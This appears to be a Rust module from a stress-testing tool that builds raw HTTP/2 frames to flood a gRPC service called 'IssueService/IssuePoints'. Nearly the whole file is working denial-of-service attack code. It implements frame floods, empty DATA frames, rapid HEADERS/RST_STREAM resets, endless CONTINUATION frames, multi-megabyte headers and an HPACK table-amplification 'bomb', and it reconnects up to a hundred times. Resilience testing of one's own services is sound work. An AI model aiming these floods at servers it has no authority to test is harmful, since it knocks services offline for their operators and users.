//! Floods of frames. A connection that the house closes is opened anew, up to a hundred times.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use tokio::time::Instant;

use super::raw::{
    CONTINUATION, DATA, Door, END_HEADERS, END_STREAM, HEADERS, HOSTILE, RST_STREAM, Raw, frame, head, header, stream,
    text,
};

/// Connections of one flood at the most.
const CONNECTIONS: usize = 100;

/// Frames in one write.
const AT_ONCE: usize = 100;

/// Sends what is made, piece by piece, until the time is over or `most` pieces were sent; begins again with `first` on
/// each new connection.
async fn pour(
    door: &Arc<Door>,
    span: Duration,
    most: usize,
    first: impl Fn() -> Vec<u8>,
    mut piece: impl FnMut(usize) -> Vec<u8>,
) -> Result<String> {
    let (until, tls) = (Instant::now() + span, door.tls(HOSTILE)?);
    let (mut sent, mut closed, mut refused) = (0, 0, 0);
    for _ in 0..CONNECTIONS {
        if Instant::now() >= until || sent >= most {
            break;
        }
        let Ok(mut raw) = door.speak(&tls, 65_535).await else {
            refused += 1;
            continue;
        };
        let mut open = async |raw: &mut Raw| {
            raw.send(&first()).await?;
            for at in 0.. {
                if Instant::now() >= until || sent >= most || raw.is_closed() {
                    break;
                }
                raw.send(&piece(at)).await?;
                sent += 1;
            }
            anyhow::Ok(())
        };
        let ended = tokio::time::timeout_at(until, open(&mut raw)).await;
        closed += usize::from(matches!(ended, Ok(Err(_))) || raw.is_closed());
    }
    tokio::time::sleep_until(until).await;
    Ok(format!("{sent} pieces sent; {closed} connections closed by the house, {refused} refused"))
}

fn call() -> Vec<u8> {
    frame(HEADERS, END_HEADERS, 1, &head("IssueService/IssuePoints"))
}

pub async fn flood(
    door: &Arc<Door>,
    (kind, flags, stream): (u8, u8, u32),
    payload: &[u8],
    span: Duration,
) -> Result<String> {
    let piece = frame(kind, flags, stream, payload).repeat(AT_ONCE);
    pour(door, span, usize::MAX, call, |_| piece.clone()).await
}

pub async fn empty_data(door: &Arc<Door>, span: Duration) -> Result<String> {
    let piece = frame(DATA, 0, 1, &[]).repeat(AT_ONCE);
    pour(door, span, usize::MAX, call, |_| piece.clone()).await
}

pub async fn resets(door: &Arc<Door>, count: usize, span: Duration) -> Result<String> {
    let head = head("IssueService/IssuePoints");
    let piece = |at: usize| {
        let calls = (1..=AT_ONCE).map(|call| stream(at * AT_ONCE + call));
        let calls = calls.flat_map(|stream| {
            [frame(HEADERS, END_HEADERS | END_STREAM, stream, &head), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])]
        });
        calls.flatten().collect()
    };
    pour(door, span, count / AT_ONCE, call, piece).await
}

/// Heads that never end.
pub async fn continuation(door: &Arc<Door>, span: Duration) -> Result<String> {
    let mut block = Vec::new();
    for at in 0..100 {
        header(&mut block, &format!("x-{at}"), "a header like any other, of some eighty bytes or so, again and again");
    }
    let piece = frame(CONTINUATION, 0, 1, &block);
    pour(door, span, usize::MAX, || frame(HEADERS, 0, 1, &head("IssueService/IssuePoints")), |_| piece.clone()).await
}

/// Heads of 17 KB to 8 MB, in frames of 16 KB.
pub async fn headers(door: &Arc<Door>, span: Duration) -> Result<String> {
    let sizes = [17 << 10, 64 << 10, 256 << 10, 1 << 20, 8 << 20];
    let piece = |at: usize| {
        let mut block = head("IssueService/IssuePoints");
        header(&mut block, "x-long", &"x".repeat(sizes[at % sizes.len()]));
        let mut parts = block.chunks(16_384);
        let mut bytes = frame(HEADERS, 0, stream(at + 1), parts.next().unwrap_or_default());
        let last = parts.len();
        for (place, part) in parts.enumerate() {
            bytes.extend(frame(CONTINUATION, if place + 1 == last { END_HEADERS } else { 0 }, stream(at + 1), part));
        }
        bytes
    };
    pour(door, span, usize::MAX, call, piece).await
}

/// One header of 4 KB, kept in the table, and then named sixteen thousand times in each head.
pub async fn hpack(door: &Arc<Door>, span: Duration) -> Result<String> {
    let first = || {
        let mut block = head("IssueService/IssuePoints");
        block.push(0x40);
        text(&mut block, "x-bomb");
        text(&mut block, &"x".repeat(3_900));
        frame(HEADERS, END_HEADERS, 1, &block)
    };
    let piece = |at: usize| {
        let mut block = head("IssueService/IssuePoints");
        // The newest of the table, behind the 61 that are always there.
        block.resize(16_384, 0xbe);
        frame(HEADERS, END_HEADERS, stream(at + 1), &block)
    };
    pour(door, span, usize::MAX, first, piece).await
}
